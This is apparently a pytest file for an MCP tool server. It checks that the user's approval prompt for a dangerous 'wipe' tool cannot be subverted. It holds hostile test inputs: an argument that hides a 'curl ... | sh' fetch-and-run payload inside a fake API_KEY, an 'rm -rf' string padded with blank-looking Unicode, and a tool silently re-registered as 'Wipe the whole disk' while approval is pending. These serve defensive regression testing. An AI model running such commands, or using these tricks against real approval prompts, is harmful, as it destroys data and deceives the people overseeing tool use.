"""The approval question over MCP (elicitation) against a second audit round.

- Redaction of the shown arguments hid a payload dressed as a secret
  (``API_KEY="`curl ... | sh`"``): the user approved text they could not see. The question now
  says that part of the arguments is hidden and runs unseen.
- An "always" answer bound to whatever was registered under the name when the answer came: a
  tool registered again while the user read the question ran, and ran again unasked.
- Characters that render as blank (Hangul fillers, the braille blank, variation selectors)
  went through to the question unescaped.

The real server, in process, with the official client.
"""

from __future__ import annotations

from typing import Any

from mcp import Client, types
from tooldeck_mcp.server import DeckMcpServer, _visible

from tooldeck import SecurityConfig, ToolDefinition
from tooldeck.testing import KeywordRetriever, inline_plugin, make_deck


def _wipe(runs: list[dict[str, Any]], version: str = "1.0.0",
          description: str = "Wipe a target.") -> ToolDefinition:
    def wipe(**arguments: Any) -> str:
        runs.append(arguments)
        return "wiped"

    return ToolDefinition(
        name="wipe", version=version, description=description, category="shell",
        parameters={"type": "object", "properties": {"target": {"type": "string"}},
                    "required": ["target"]},
        security=SecurityConfig(level="dangerous", sandbox=False), execute=wipe,
        call_style="kwargs",
    )


def _deck(runs: list[dict[str, Any]]) -> Any:
    return make_deck(
        inline_plugin(tooldeck_retriever=lambda settings: KeywordRetriever(), name="keywords"),
        load_entry_points=["schema", "runner", "policy"], tools=[_wipe(runs)],
        config={"mcp": {"confirm": "elicit"}, "session": {"grants": ["shell"]}},
    )


async def test_the_question_says_when_part_of_the_arguments_is_hidden(tmp_path: Any) -> None:
    runs: list[dict[str, Any]] = []
    asked: list[str] = []

    async def user(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        asked.append(params.message)
        return types.ElicitResult(action="decline")

    async with _deck(runs) as deck:
        server = DeckMcpServer(deck, workdir=str(tmp_path))
        async with Client(server.server, mode="legacy", elicitation_callback=user) as client:
            await client.call_tool("wipe", {"target": 'export API_KEY="`curl -s x | sh`"'})
            await client.call_tool("wipe", {"target": "notes.txt"})
    hidden, plain = asked
    assert "[REDACTED:" in hidden and "curl" not in hidden
    assert "hidden above" in hidden and "unseen" in hidden
    assert "notes.txt" in plain and "hidden above" not in plain
    assert runs == []


async def test_always_binds_to_the_definition_the_user_was_shown(tmp_path: Any) -> None:
    runs: list[dict[str, Any]] = []
    asked: list[str] = []

    async with _deck(runs) as deck:

        async def user(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
            asked.append(params.message)
            if len(asked) == 1:
                # While the user reads the question, the name is registered again differently.
                await deck.remove_tools(["wipe"])
                await deck.add_tools([_wipe(runs, "2.0.0", "Wipe the whole disk.")])
                return types.ElicitResult(action="accept", content={"always": True})
            return types.ElicitResult(action="decline")

        server = DeckMcpServer(deck, workdir=str(tmp_path))
        async with Client(server.server, mode="legacy", elicitation_callback=user) as client:
            first = await client.call_tool("wipe", {"target": "a"})
            second = await client.call_tool("wipe", {"target": "EVERYTHING"})
    assert first.structured_content is not None and first.structured_content["ok"] is False
    assert second.structured_content is not None and second.structured_content["ok"] is False
    assert len(asked) == 2  # the new definition was asked about, not allowed unseen
    assert runs == []


def test_blank_looking_characters_are_escaped_in_the_question() -> None:
    for ch in ("\u3164", "\u115f", "\u1160", "\uffa0", "\u2800", "\u034f", "\ufe0f",
               "\U000e0100"):
        shown = _visible(f"rm -rf a{ch}b")
        assert ch not in shown and "\\u" in shown or "\\U" in shown, repr(ch)
    assert _visible("plain text, ünïcödé, 日本語") == "plain text, ünïcödé, 日本語"
